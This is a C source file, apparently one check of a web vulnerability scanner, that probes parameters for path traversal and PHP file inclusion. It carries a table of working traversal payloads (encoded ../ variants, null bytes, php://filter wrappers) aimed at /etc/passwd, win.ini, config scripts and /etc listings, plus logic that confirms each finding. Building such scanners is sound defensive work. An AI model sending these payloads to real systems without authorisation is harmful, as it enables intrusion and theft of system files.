/* Active: a parameter names a file and may leave its directory (CWE-22, CWE-98).
 * Proof is the content of a file that every system of that kind has: the account
 * line of root, or a section of win.ini. It must be absent from the untouched page,
 * and a second, different file is read before the finding counts as certain.
 * Where a suffix is forced on (include($x . ".php")), PHP's filter wrapper shows the
 * source of the very page instead. */
#include "base/limits.h"
#include "scan/checks/active_private.h"
#include "scan/diff.h"
#include "scan/reaction.h"

#define UP "../../../../../../../../../../.."
#define UP_DOUBLED "....//....//....//....//....//....//....//....//....//....//"

struct target {
	const char *payload; /* %s: the file; %v the value; %d its folder; %x its extension; %r sent as it is */
	const char *file, *other;
	bool windows;
};
static const struct target targets[] = {
	{ UP "%s", "/etc/passwd", "/etc/group", false },
	{ "%s", "/etc/passwd", "/etc/group", false },
	{ UP_DOUBLED "%s", "etc/passwd", "etc/group", false },
	{ "file://%s", "/etc/passwd", "/etc/group", false },
	{ UP "%s", "/windows/win.ini", "/windows/system.ini", true },
	{ "..\\..\\..\\..\\..\\..\\..\\..\\%s", "windows\\win.ini", "windows\\system.ini", true },
	{ UP "%s%%00", "/etc/passwd", "/etc/group", false },
	{ "%v/" UP "%s", "/etc/passwd", "/etc/group", false },
	{ "%d/" UP "%s", "/etc/passwd", "/etc/group", false },
	{ UP "%s%%00%x", "/etc/passwd", "/etc/group", false },
	{ "%r..%%252f..%%252f..%%252f..%%252f..%%252f..%%252f..%%252f..%%252f%s", "etc/passwd", "etc/group", false },
	{ "%r%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%%252e%%252e%%252f%s", "etc/passwd", "etc/group", false },
	{ "..././..././..././..././..././..././..././..././..././%s", "etc/passwd", "etc/group", false },
	{ "%r..%%2f..%%2f..%%2f..%%2f..%%2f..%%2f..%%2f..%%2f%s", "etc/passwd", "etc/group", false },
	{ "%r..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af..%%c0%%af%s", "etc/passwd", "etc/group", false },
	{ "..\\/..\\/..\\/..\\/..\\/..\\/..\\/..\\/%s", "etc/passwd", "etc/group", false },
	{ "/..;/..;/..;/..;/..;/..;/..;/..;/%s", "etc/passwd", "etc/group", false },
	{ UP "%s?", "/etc/passwd", "/etc/group", false },
	{ UP "%s%x", "/etc/passwd#", "/etc/group#", false },
	{ "php://filter/resource=%s", "/etc/passwd", "/etc/group", false },
	{ "%s", "c:/windows/win.ini", "c:/windows/system.ini", true },
};

/* A line "root:?:0:" of passwd or group; the whole line. */
static struct str unix_proof(struct str t)
{
	for (struct str rest = t;;) {
		ssize_t at = str_find(rest, STR("root:"));

		if (at < 0)
			return STR_NULL;
		struct str line = str_sub(rest, (size_t)at, (size_t)at + 80);
		ssize_t end = str_chr(line, '\n');

		if (end >= 0)
			line = str_sub(line, 0, (size_t)end);
		struct str fields = str_from(line, 5);
		ssize_t colon = str_chr(fields, ':');

		if (colon >= 0 && colon <= 1 &&
		    str_starts(str_from(fields, (size_t)colon), STR(":0:")))
			return str_trim(line);
		rest = str_from(rest, (size_t)at + 5);
	}
}

static struct str windows_proof(struct str t)
{
	static const char *const sections[] = { "[fonts]", "[extensions]", "[mci extensions]",
						"[drivers]", "[386Enh]" };

	if (!str_has(t, STR("16-bit app support")))
		return STR_NULL;
	for (size_t i = 0; i < ARRAY_SIZE(sections); i++) {
		ssize_t at = str_find(t, str_c(sections[i]));

		if (at >= 0)
			return str_sub(t, (size_t)at, (size_t)at + strlen(sections[i]));
	}
	return STR_NULL;
}

/* The same line in base64, at any of three alignments. */
static struct str encoded_proof(struct str t)
{
	static const char *const cuts[] = { "cm9vdDp4OjA6MDpyb290Oi9yb290O", "Jvb3Q6eDowOjA6cm9vdDovcm9vdD", "yb290Ong6MDowOnJvb3Q6L3Jvb3Q6" };

	for (size_t i = 0; i < ARRAY_SIZE(cuts); i++) {
		ssize_t at = str_find(t, str_c(cuts[i]));

		if (at >= 0)
			return str_sub(t, (size_t)at, (size_t)at + strlen(cuts[i]));
	}
	return STR_NULL;
}

static struct str proof_in(const struct scan_exchange *x, bool windows)
{
	struct str t = active_content(x), plain = windows ? windows_proof(t) : unix_proof(t);

	return plain.ptr || windows ? plain : encoded_proof(t);
}

static bool send_file(struct probe *p, const struct target *t, const char *file,
		      const struct scan_exchange **ret)
{
	_cleanup_buf_ struct buf b = BUF_INIT(64 * KIB);
	struct str v = probe_point(p)->value;
	ssize_t slash = str_rchr(v, '/'), dot = str_rchr(v, '.');
	bool raw = false;

	for (const char *c = t->payload; *c; c++) {
		if (*c != '%') {
			buf_char(&b, *c);
			continue;
		}
		switch (*++c) {
		case 's':
			buf_c(&b, file);
			break;
		case 'v': /* the value itself, as a first folder */
			buf_str(&b, v);
			break;
		case 'd': /* the folder that the value names */
			buf_str(&b, str_sub(v, 0, slash < 0 ? 0 : (size_t)slash));
			break;
		case 'x': /* the extension */
			buf_str(&b, dot < 0 ? STR("") : str_from(v, (size_t)dot));
			break;
		case 'r':
			raw = true;
			break;
		case '%':
			if (c[1] == '0' && c[2] == '0' && !raw) {
				buf_char(&b, '\0');
				c += 2;
			} else {
				buf_char(&b, '%');
			}
			break;
		}
	}
	return probe_send(p, &(struct scan_mutation){ .value = arena_str(probe_arena(p), buf_view(&b)), .value_set = true,
						      .raw = raw && (probe_point(p)->where == WHERE_QUERY ||
								     probe_point(p)->where == WHERE_PATH ||
								     probe_point(p)->where == WHERE_BODY) },
			  ret) == 0;
}

/* A page that finds texts by words or by a piece of them shows one that prints the account file,
 * too. A file system takes "etc//passwd" for the same file and knows no "etc passwd"; for words
 * the latter is the same, and for a piece of text neither is. */
static bool opened_by_path(struct probe *p, const struct target *t)
{
	const struct scan_exchange *x;
	struct buf doubled = BUF_INIT(1 * KIB), words = BUF_INIT(1 * KIB);
	for (const char *c = t->file; *c; c++) {
		bool slash = (*c == '/' || *c == '\\') && c > t->file;
		buf_char(&doubled, *c);
		if (slash)
			buf_char(&doubled, *c);
		if (slash)
			buf_c(&words, strstr(t->payload, "%r") ? "%20" : " ");
		else
			buf_char(&words, *c);
	}
	const char *twice = arena_str(probe_arena(p), buf_view(&doubled)).ptr, *apart = arena_str(probe_arena(p), buf_view(&words)).ptr;
	buf_free(&doubled);
	buf_free(&words);
	return send_file(p, t, twice, &x) && proof_in(x, t->windows).ptr && send_file(p, t, apart, &x) && !proof_in(x, t->windows).ptr;
}

static bool try_target(struct probe *p, const struct target *t)
{
	const struct scan_exchange *x, *again;

	if (!send_file(p, t, t->file, &x))
		return false;
	struct str proof = proof_in(x, t->windows);

	if (!proof.ptr || proof_in(probe_base(p), t->windows).ptr || !opened_by_path(p, t))
		return false;
	/* Another file through the same hole: passwd and group differ, the page does not know both.
	 */
	bool sure = send_file(p, t, t->other, &again) &&
		    (proof_in(again, t->windows).ptr != NULL || !encoded_proof(active_content(again)).ptr) &&
		    !str_eq(again->body, x->body);

	probe_report(p, &(struct scan_report){ .exchange = x,
					       .proof = proof,
					       .confidence_set = true,
					       .confidence = sure ? CONFIDENCE_CERTAIN
								  : CONFIDENCE_FIRM });
	return true;
}

/* base64 of "<?php" and at least sixty characters of its like. */
static struct str encoded_source(struct str t)
{
	ssize_t at = str_find(t, STR("PD9waH"));
	size_t n = 0;

	if (at < 0)
		return STR_NULL;
	struct str s = str_from(t, (size_t)at);

	while (n < s.len &&
	       (ascii_alnum(s.ptr[n]) || s.ptr[n] == '+' || s.ptr[n] == '/' || s.ptr[n] == '='))
		n++;
	return n >= 60 ? str_sub(s, 0, n > 120 ? 120 : n) : STR_NULL;
}

static bool file_like(struct str name)
{
	static const struct str words[] = { STR_INIT("file"), STR_INIT("path"), STR_INIT("page"), STR_INIT("doc"),
					    STR_INIT("tpl"), STR_INIT("template"), STR_INIT("include"), STR_INIT("lang"),
					    STR_INIT("dir"), STR_INIT("view"), STR_INIT("name"), STR_INIT("load"),
					    STR_INIT("img"), STR_INIT("src"), STR_INIT("download"), STR_INIT("log") };

	for (size_t i = 0; i < ARRAY_SIZE(words); i++)
		if (str_ihas(name, words[i]))
			return true;
	return false;
}

static void try_filter(struct probe *p, const struct scan_point *pt)
{
	const struct scan_exchange *x, *again;
	struct str form = probe_printf(p, "php://filter/convert.base64-encode/resource=%.*s",
				       STR_ARG(pt->value));

	if (str_empty(pt->value) || pt->value.len > 100 || probe_value(p, form, &x) < 0)
		return;
	struct str proof = encoded_source(active_content(x));

	if (!proof.ptr || encoded_source(active_content(probe_base(p))).ptr)
		return;
	/* Another filter must show it otherwise. */
	form = probe_printf(p, "php://filter/read=string.rot13/resource=%.*s", STR_ARG(pt->value));
	bool sure = probe_value(p, form, &again) == 0 && !encoded_source(active_content(again)).ptr;

	probe_report(p, &(struct scan_report){ .exchange = x,
					       .proof = proof,
					       .confidence_set = true,
					       .confidence = sure ? CONFIDENCE_CERTAIN
								  : CONFIDENCE_FIRM });
}

/* Numbers and long prose do not name files; they cost only the plain form. */
static bool may_name_file(const struct scan_point *pt)
{
	int64_t n;

	return pt->value.len <= 200 && str_to_i64(pt->value, &n) < 0 && !(pt->value.len && active_plain_number(pt->value));
}

/* An ending is forced on the name: then a file with that ending which many systems have. The
 * folder is left behind, so that what keeps inside of it cannot answer. */
static bool try_endings(struct probe *p, const struct scan_point *pt)
{
	static const struct {
		const char *path, *mark; /* without the ending */
	} known[] = {
		{ "/usr/share/perl/5.36/unicore/Blocks", "Basic Latin" },
		{ "/usr/share/perl/5.36.0/unicore/Blocks", "Basic Latin" },
		{ "/usr/lib/python3.11/LICENSE", "PYTHON SOFTWARE FOUNDATION" },
		{ "/etc/host", "multi on" },
		{ "/etc/resolv", "nameserver " },
		{ "/etc/nsswitch", "Name Service Switch" },
		{ "/etc/fonts/fonts", "<fontconfig>" },
		{ "/usr/share/zoneinfo/zone1970", "Europe/" },
		{ "/var/www/html/index", "<html" },
		{ "/usr/share/nginx/html/index", "Welcome to nginx" },
		{ "/var/log/dpkg", " status installed " },
		{ "/usr/lib/python3.11/this", "Gur Mra bs Clguba" },
		{ "/windows/win", "for 16-bit app support" },
		{ "/usr/share/mime/packages/freedesktop.org", "<mime-info" },
	};
	const struct scan_exchange *x, *y;
	for (size_t i = 0; i < ARRAY_SIZE(known); i++) {
		struct str mark = str_c(known[i].mark);
		if (probe_value(p, probe_printf(p, UP "%s", known[i].path), &x) < 0)
			return false;
		struct str proof = active_find(x, mark);
		if (!proof.ptr || active_find(pt->base, mark).ptr)
			continue;
		if (probe_value(p, probe_printf(p, UP "%s%.*s", known[i].path, STR_ARG(probe_word(p, 4))), &y) < 0 ||
		    active_find(y, mark).ptr)
			continue;
		probe_report(p, &(struct scan_report){
					.exchange = x,
					.proof = proof,
					.confidence_set = true,
					.confidence = CONFIDENCE_CERTAIN,
					.detail_zh = STR("经由上级目录读到了系统中一个同样扩展名的已知文件；换一个名字则读不到。"),
					.detail_en = STR("A known file of the system with the same ending was read through parent folders; under "
							 "another name it is not."),
				});
		return true;
	}
	return false;
}

/* Nor any of those: then a program beside or above, by its usual name. It is there (another
 * answer than for nonsense in the same place), and not in the folder itself nor because of its
 * name (in a folder that is not there it is missing). */
static bool try_neighbours(struct probe *p, const struct scan_point *pt)
{
	static const char *const names[] = { "config", "settings", "index", "main", "app", "db", "common", "init",
					     "functions", "login", "database", "conn" };
	struct diff_side base = diff_base(pt), t, lost, lost2, own, away;
	for (size_t up = 1; up <= 2; up++) {
		const char *dots = up == 1 ? "../" : "../../";
		if (!probe_stable(p) || diff_value(p, probe_printf(p, "%s%.*s", dots, STR_ARG(probe_word(p, 7))), &lost) < 0 ||
		    diff_same(p, &base, &lost))
			return false;
		for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
			if (diff_value(p, probe_printf(p, "%s%s", dots, names[i]), &t) < 0)
				return false;
			if (diff_same(p, &lost, &t) || diff_same(p, &base, &t) || t.x->status >= 400 || diff_blocked(&base, &t))
				continue;
			if (diff_value(p, str_c(names[i]), &own) < 0 || diff_same(p, &own, &t) ||
			    diff_value(p, probe_printf(p, "%.*s/%s", STR_ARG(probe_word(p, 6)), names[i]), &away) < 0 ||
			    diff_same(p, &away, &t) ||
			    diff_value(p, probe_printf(p, "%s%.*s", dots, STR_ARG(probe_word(p, 6))), &lost2) < 0 ||
			    !diff_same(p, &lost, &lost2) || !diff_apart(p, &base, &t, &lost2))
				continue;
			probe_report(p, &(struct scan_report){
						.exchange = t.x,
						.proof = t.sent,
						.confidence_set = true,
						.confidence = CONFIDENCE_CERTAIN,
						.detail_zh = probe_printf(p, "经由上级目录“%.*s”打开了目录之外的文件；同处的随机名称、目录之内的同名文件都得到另外的响应，打乱次序重现。",
									  STR_ARG(t.sent)),
						.detail_en = probe_printf(p, "\"%.*s\" opened a file outside the folder; random names in the same "
									     "place and the same name inside get another answer, in mixed order.",
									  STR_ARG(t.sent)),
					});
			return true;
		}
	}
	return false;
}

/* How many of these names stand in the answer as words, and not in the page as it was. */
static size_t names_in(const struct scan_exchange *x, const struct scan_exchange *base, const char *const *names, struct str *ret)
{
	size_t n = 0;

	for (; *names; names++) {
		struct str word = str_c(*names), t = active_content(x);
		ssize_t at;

		for (size_t from = 0; (at = str_find(str_from(t, from), word)) >= 0; from += (size_t)at + 1) {
			size_t a = from + (size_t)at, b = a + word.len;
			bool open = a == 0 || !(ascii_alnum(t.ptr[a - 1]) || strchr("-_.", t.ptr[a - 1]));

			if (open && (b == t.len || !(ascii_alnum(t.ptr[b]) || strchr("-_.", t.ptr[b])))) {
				n += !str_has(active_content(base), word);
				*ret = str_sub(t, a, b);
				break;
			}
		}
	}
	return n;
}

/* The value names a folder whose files are listed: then two folders that every system has are. */
static bool try_folders(struct probe *p, const struct scan_point *pt)
{
	static const char *const etc[] = { "passwd", "group", "hosts", "fstab", "hostname", "resolv.conf", "profile", "shadow", NULL };
	static const char *const usr[] = { "bin", "lib", "share", "sbin", "local", "include", NULL };
	const struct scan_exchange *x, *y;
	struct str proof, other;

	for (size_t i = 0; i < 2; i++) {
		const char *up = i == 0 ? UP : "";

		if (probe_value(p, probe_printf(p, "%s/etc", up), &x) < 0)
			return false;
		if (names_in(x, pt->base, etc, &proof) < 5 || probe_value(p, probe_printf(p, "%s/usr", up), &y) < 0 ||
		    names_in(y, pt->base, usr, &other) < 4 || names_in(y, pt->base, etc, &other) > 2)
			continue;
		probe_report(p, &(struct scan_report){
					.exchange = x,
					.proof = proof,
					.confidence_set = true,
					.confidence = CONFIDENCE_CERTAIN,
					.detail_zh = STR("参数指定的目录被列出：/etc 与 /usr 中的文件名分别出现在响应里。"),
					.detail_en = STR("The folder that the parameter names is listed: the names of what is in /etc and in /usr "
							 "stand in the answers."),
				});
		return true;
	}
	return false;
}

static bool folder_like(struct str name)
{
	static const char *const words[] = { "dir", "folder", "path", "browse", "root", "cwd" };

	for (size_t i = 0; i < ARRAY_SIZE(words); i++)
		if (str_ihas(name, str_c(words[i])))
			return true;
	return false;
}

static void probe_file(struct probe *p, const struct scan_point *pt)
{
	size_t tries = ARRAY_SIZE(targets);
	struct diff_side base = diff_base(pt);

	if ((pt->where == WHERE_HEADER && !active_own_header(pt)) || (probe_sqli_found(p) && probe_mode(p) != SCAN_DEEP))
		return;
	if (probe_mode(p) != SCAN_DEEP) {
		bool named = may_name_file(pt) && pt->value.len < 100;
		bool file = named && !str_has(pt->value, STR("://")) && (str_chr(pt->value, '.') >= 0 || str_chr(pt->value, '/') >= 0 ||
				      (file_like(pt->name) && reaction(p, REACTION_DOT)));

		file = file || (named && diff_depends(p, &base) && reaction_seen(p, REACTION_DOT));
		tries = file ? 17 : named ? 2 : 1;
	}
	for (size_t i = 0; i < tries && !probe_reported(p); i++)
		if (try_target(p, &targets[i]))
			return;
	if (!may_name_file(pt) || probe_reported(p) || str_empty(pt->value))
		return;
	if (reaction(p, REACTION_VALUE))
		try_filter(p, pt);
	if (!probe_reported(p) && pt->value.len < 100 && folder_like(pt->name) && try_folders(p, pt))
		return;
	if (!probe_reported(p) && pt->value.len < 100 && str_chr(pt->value, '.') < 0 && file_like(pt->name) &&
	    diff_depends(p, &base) && reaction(p, REACTION_DOT) && !try_endings(p, pt))
		try_neighbours(p, pt);
}

const struct scan_check check_path_traversal = {
	.id = "path-traversal",
	.title_zh = "路径遍历或文件包含",
	.title_en = "Path traversal or file inclusion",
	.severity = SEVERITY_HIGH,
	.cwe = 22,
	.owasp = "A01:2021",
	.modes = SCAN_STANDARD_UP,
	.place = PLACE_POINT,
	.on_point = probe_file,
};
